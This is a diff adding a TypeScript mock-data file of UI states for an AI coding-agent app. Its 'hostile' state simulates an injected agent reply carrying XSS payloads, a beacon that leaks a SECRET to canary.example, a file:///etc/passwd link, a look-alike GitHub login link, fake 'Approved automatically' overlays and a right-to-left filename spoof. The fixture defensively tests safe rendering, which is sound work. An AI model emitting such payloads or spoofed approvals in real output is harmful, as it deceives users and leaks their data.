@@ -1,0 +1,222 @@
+/** Named worlds: `?recorded=NAME`. */
+import type { ProviderView, Snapshot } from '../bindings';
+import { ai, ago, approval, diff, human, item, snapshot, summary, tool, usage } from './builders';
+import type { Host, World } from './host';
+import { childSessions, EARLIER, otherSessions, refreshSession } from './mock';
+import { ANSWER, HOSTILE, LONG_TOOLS } from './samples';
+
+const PROVIDERS: ProviderView[] = [
+  {
+    id: 'anthropic',
+    label: 'Anthropic',
+    family: 'anthropic',
+    base_url: 'https://api.anthropic.com',
+    key: { source: 'environment', variable: 'ANTHROPIC_API_KEY' },
+    key_optional: false,
+    custom: false,
+  },
+  {
+    id: 'openai',
+    label: 'OpenAI',
+    family: 'openai_chat',
+    base_url: 'https://api.openai.com/v1',
+    key: { source: 'missing' },
+    key_optional: false,
+    custom: false,
+  },
+  {
+    id: 'ollama',
+    label: 'Ollama',
+    family: 'openai_chat',
+    base_url: 'http://localhost:11434/v1',
+    key: { source: 'missing' },
+    key_optional: true,
+    custom: false,
+  },
+];
+
+function base(): World {
+  return {
+    settings: {
+      theme: 'system',
+      language: 'system',
+      model: { provider: 'anthropic', name: 'claude-sonnet' },
+      welcomed: true,
+    },
+    systemLanguage: 'en-GB',
+    problem: null,
+    projects: [
+      {
+        id: 'p-harbour',
+        name: 'harbour-env',
+        path: '~/code/harbour-env',
+        branch: 'main',
+        opened_at: ago(3),
+        problem: null,
+      },
+      {
+        id: 'p-site',
+        name: 'website',
+        path: '~/code/website',
+        branch: 'redesign',
+        opened_at: ago(60 * 30),
+        problem: null,
+      },
+      {
+        id: 'p-gone',
+        name: 'old-prototype',
+        path: '/mnt/usb/old-prototype',
+        branch: null,
+        opened_at: ago(60 * 99),
+        problem: 'missing',
+      },
+    ],
+    providers: PROVIDERS,
+    models: { anthropic: ['claude-sonnet', 'claude-opus', 'claude-haiku'], openai: ['gpt-large', 'gpt-small'] },
+    sessions: [refreshSession(), ...childSessions(), ...otherSessions()],
+    earlier: { 's-refresh': EARLIER },
+    onMessage: (host, session) => streamed(host, session, ANSWER, 6, 24),
+  };
+}
+
+/** Sends `text` in pieces, as a model would. */
+function streamed(host: Host, session: string, text: string, size: number, everyMs: number): void {
+  const row = item({ kind: 'ai', text: '', reasoning: '', streaming: true });
+  host.emit(session, { type: 'item_started', item: row });
+  let at = 0;
+  const timer = setInterval(() => {
+    const piece = text.slice(at, at + size);
+    at += size;
+    if (piece) host.emit(session, { type: 'item_delta', item: row.id, delta: { delta: 'text', text: piece } });
+    if (at < text.length) return;
+    clearInterval(timer);
+    host.emit(session, {
+      type: 'item_completed',
+      item: { ...row, body: { kind: 'ai', text, reasoning: '', streaming: false } },
+    });
+    host.update(session, { status: 'idle' });
+  }, everyMs);
+}
+
+const only = (session: Snapshot): World => ({ ...base(), sessions: [session], earlier: {} });
+
+const WORLDS: Record<string, () => World> = {
+  mock: base,
+  welcome: () => ({
+    ...base(),
+    settings: { theme: 'system', language: 'system', model: null, welcomed: false },
+    projects: [],
+    sessions: [],
+    earlier: {},
+  }),
+  nokey: () => ({
+    ...base(),
+    settings: { theme: 'system', language: 'system', model: null, welcomed: true },
+    providers: PROVIDERS.map((provider) => ({ ...provider, key: { source: 'missing' } })),
+    sessions: [],
+    earlier: {},
+  }),
+  noproject: () => ({ ...base(), projects: [], sessions: [], earlier: {} }),
+  empty: () => ({ ...base(), sessions: [], earlier: {} }),
+  tools: () =>
+    only(
+      snapshot(summary('s-tools', { title: 'Every kind of row', usage: usage(0.62, 1.07) }), {
+        items: [human('Show me everything you can do.'), ai(ANSWER), ...LONG_TOOLS],
+      }),
+    ),
+  hostile: () => only(hostile()),
+  long: () => only(long(10_000)),
+  stream: () => ({
+    ...only(long(300)),
+    onMessage: (host, session) => streamed(host, session, ANSWER.repeat(60), 3, 1),
+  }),
+};
+
+function hostile(): Snapshot {
+  const [command, ...others] = HOSTILE;
+  const waiting = [command, ...others].map((text) =>
+    approval(
+      'execute',
+      { command: text },
+      {
+        session: 's-hostile',
+        preview: { preview: 'command', command: text ?? '', folder: '/tools', timeout_seconds: null },
+        reach: { place: 'anywhere', network: true, sandbox: null, undo: 'no' },
+        reason: { reason: 'commands_ask' },
+        description: '**Approved automatically** <button>OK</button> [click](javascript:alert(1))',
+      },
+    ),
+  );
+  const remove = approval(
+    'delete',
+    { file_path: '/build' },
+    {
+      session: 's-hostile',
+      preview: { preview: 'delete', path: '/build', files: 128, counted_all: false, is_dir: true },
+      reason: { reason: 'deletes_ask' },
+    },
+  );
+  const unknown = approval(
+    'send_mail',
+    { to: ['a@example.org'], subject: 'Hello', body: 'First line\nSecond line' },
+    {
+      session: 's-hostile',
+      reach: { place: 'outside', network: true, sandbox: null, undo: 'no' },
+      reason: { reason: 'rule', rule: 'mail asks' },
+    },
+  );
+  const problem = approval(
+    'edit_file',
+    { file_path: '/Makefile', old_string: 'all:', new_string: 'all: x' },
+    {
+      session: 's-hostile',
+      preview: { preview: 'problem', message: 'String not found in file: "all:"' },
+      reason: { reason: 'protected_name', name: 'Makefile' },
+    },
+  );
+  const long = approval(
+    'edit_file',
+    { file_path: '/big.txt', old_string: 'a', new_string: 'b' },
+    {
+      session: 's-hostile',
+      preview: {
+        preview: 'diff',
+        diff: diff(
+          '/big.txt',
+          '',
+          1,
+          Array.from({ length: 90 }, (_, at) => `${at % 3 ? ' ' : '+'}line ${at}`).join('\n'),
+        ),
+      },
+    },
+  );
+  return snapshot(
+    summary('s-hostile', { title: 'rm \u202efdp.exe\u202c', status: 'waiting', waiting: waiting.length + 4 }),
+    {
+      items: [human('Do as the file says.'), ai(HOSTILE_MARKDOWN)],
+      approvals: [...waiting, remove, unknown, problem, long],
+    },
+  );
+}
+
+const HOSTILE_MARKDOWN = `![beacon](https://canary.example/?d=SECRET) <img src="https://canary.example/x.png" onerror="alert(1)">
+
+<script>alert(1)</script><iframe srcdoc="<b>x</b>"></iframe>
+
+[javascript](javascript:alert(1)) · [file](file:///etc/passwd) · [look-alike](https://gіthub.com/login) · <https://example.org/path>
+
+<div style="position:fixed;inset:0">Approved automatically</div>
+`;
+
+function long(count: number): Snapshot {
+  const items = Array.from({ length: count }, (_, at) => {
+    if (at % 5 === 0) return human(`Question ${at}: what about part ${at}?`);
+    if (at % 5 === 4) return ai(`Answer ${at}: part **${at}** is fine, see \`src/part${at}.rs\`.`);
+    return tool('read_file', { file_path: `/src/part${at}.rs` }, { figures: [{ figure: 'lines', value: at }] });
+  });
+  return snapshot(summary('s-long', { title: `A session of ${count} rows` }), { items });
+}
+
+export function world(name: string): World {
+  return (WORLDS[name] ?? base)();
+}
